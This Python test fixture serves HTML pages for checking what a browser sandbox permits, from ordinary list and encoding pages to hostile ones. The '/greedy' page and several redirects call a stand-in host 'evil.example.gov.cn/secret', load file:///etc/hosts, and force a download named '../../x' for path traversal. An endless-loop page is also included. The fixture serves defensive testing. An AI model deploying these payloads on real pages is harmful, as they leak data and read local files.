"""Pages that scripts write, good and hostile, for tests of what a browser may do."""

SHELL = """<!DOCTYPE html><html><head><meta charset="{charset}"><title>列表</title></head>
<body><ul id="list"></ul><script>
function show(text) {{
  const line = document.createElement("li"); line.textContent = text; document.getElementById("list").append(line);
}}
{script}
</script>{more}</body></html>"""

LIST = """;fetch("/data.json").then(r => r.json()).then(d => setTimeout(() => d.forEach(show), 200));"""


def page(script, more="", charset="utf-8"):
    return {"Content-Type": "text/html"}, SHELL.format(script=script, more=more, charset=charset).encode(charset)


def pages(port, other, calls):
    """Pages of a server at `port`; not to be asked are a server at the port `other`, and one on UDP at `calls`."""
    evil = f"http://evil.example.gov.cn:{other}"
    return {
        # first, since it takes longest
        "/polls": page("setInterval(() => { fetch('/data.json?' + Math.random()); show('x') }, 100); " + LIST),
        "/data.json": ({"Content-Type": "application/json"}, '["年度报告一", "年度报告二"]'.encode()),
        "/list": page(LIST),
        "/gbk": page("show('年度报告')", charset="gbk"),
        "/moves-on": page("location = '/list'"),
        "/marks": page("document.cookie = 'a=1'; localStorage.a = 1; show('marked')"),
        "/is-marked": page("show('marks: ' + document.cookie + (localStorage.a || '') + navigator.userAgent)"),
        "/greedy": page(
            f"""
            alert(1); confirm(2); prompt(3); addEventListener("beforeunload", e => e.preventDefault());
            window.open("/opened"); window.open("{evil}/secret");
            fetch("/post", {{method: "POST", body: "x"}}).catch(() => 0);
            navigator.sendBeacon("/beacon", "x");
            new WebSocket("ws://" + location.host + "/socket"); new WebSocket("{evil}/secret".replace("http", "ws"));
            fetch("{evil}/secret", {{mode: "no-cors"}}).catch(() => 0);
            navigator.serviceWorker && navigator.serviceWorker.register("/worker.js").catch(() => 0);
            const call = new RTCPeerConnection({{iceServers: [{{urls: "stun:127.0.0.9:{calls}"}}]}});
            call.createDataChannel("x"); call.createOffer().then(offer => call.setLocalDescription(offer));
            location = "file:///etc/hosts";
            addEventListener("load", () => document.getElementById("a").click());
            """
            + LIST,
            f"""<a id="a" download href="/file.bin"></a><img src="/a.png"><video src="/a.mp4"></video>
            <link rel="icon" href="/a.ico"><link rel="preconnect dns-prefetch prefetch" href="{evil}/secret">
            <iframe src="file:///etc/hosts"></iframe><iframe src="{evil}/secret"></iframe>
            <script src="{evil}/secret"></script><script src="/to?{evil}/secret"></script>""",
        ),
        "/file.bin": ({"Content-Disposition": 'attachment; filename="../../x"'}, b"x" * 100),
        "/is-a-file": ({"Content-Disposition": 'attachment; filename="../../x"'}, b"x" * 100),
        "/leaves": page(f"setTimeout(() => location = '{evil}/secret', 300)"),
        "/is-sent": ({"Status": 302, "Location": f"{evil}/secret"}, b""),
        "/is-sent-abroad": ({"Status": 302, "Location": f"http://www.example.org:{port}/list"}, b""),
        "/forbidden": ({"Status": 403}, b"<p>no</p>"),
        "/long": page("show('x'.repeat(3000000))"),
        "/heavy": page("for (let i = 0; i < 9; i++) fetch('/megabyte?' + i); " + LIST),
        "/megabyte": ({"Content-Type": "application/octet-stream"}, b"\0" * 1_000_000),
        "/endless": page("setTimeout(() => { while (true) {} }, 100)"),
        "/waits": page("", '<script src="/never"></script>'),
    }
